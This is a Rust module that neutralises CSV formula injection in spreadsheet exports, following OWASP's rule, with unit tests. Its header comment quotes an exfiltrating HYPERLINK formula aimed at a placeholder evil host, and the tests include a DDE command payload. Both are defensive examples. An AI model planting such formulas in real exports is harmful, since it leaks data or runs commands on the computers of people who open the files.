//! CSV for people to open in spreadsheets: no cell can start a formula (OWASP's CSV-injection rule).
//!
//! Cell text comes from uploaded tables, so a cell `=HYPERLINK("https://evil.example/?"&A1)` would
//! run when the export is opened in Excel, LibreOffice or Google Sheets. Every CSV Tabletalk writes
//! for people (the CLI's `verbalise --format csv`, the app's *Export sentences*) goes through here.

use std::borrow::Cow;
use std::io::Write;

/// The characters that make a spreadsheet read a cell as a formula when they lead it (OWASP: `=`,
/// `+`, `-`, `@`, tab and carriage return).
pub const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// OWASP's rule: a cell that starts with a formula character gets a leading `'`, which spreadsheets
/// read as "this is text" (and hide); every other cell is returned unchanged.
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_LEADS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer that quotes every field, so a `;` or `,` inside a cell cannot start a new cell
/// (and a formula there) in a spreadsheet whose locale splits on it.
pub fn csv_writer<W: Write>(w: W) -> csv::Writer<W> {
    csv::WriterBuilder::new().quote_style(csv::QuoteStyle::Always).from_writer(w)
}

/// Writes one record with each cell neutralised.
pub fn write_record<W: Write, S: AsRef<str>>(w: &mut csv::Writer<W>, cells: &[S]) -> csv::Result<()> {
    w.write_record(cells.iter().map(|c| neutralise_formula(c.as_ref()).into_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_leading_cells_are_prefixed_and_others_kept() {
        for bad in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"] {
            assert_eq!(neutralise_formula(bad), format!("'{bad}"));
        }
        for ok in ["", "Ada", "1-2", " =1", "'=already", "a=b", "3.5"] {
            assert!(matches!(neutralise_formula(ok), Cow::Borrowed(s) if s == ok), "{ok:?}");
        }
    }

    #[test]
    fn records_are_quoted_and_neutralised() {
        let mut w = csv_writer(Vec::new());
        write_record(&mut w, &["=HYPERLINK(\"x\")", "a;=1+1", "plain"]).unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(out, "\"'=HYPERLINK(\"\"x\"\")\",\"a;=1+1\",\"plain\"\n");
    }
}
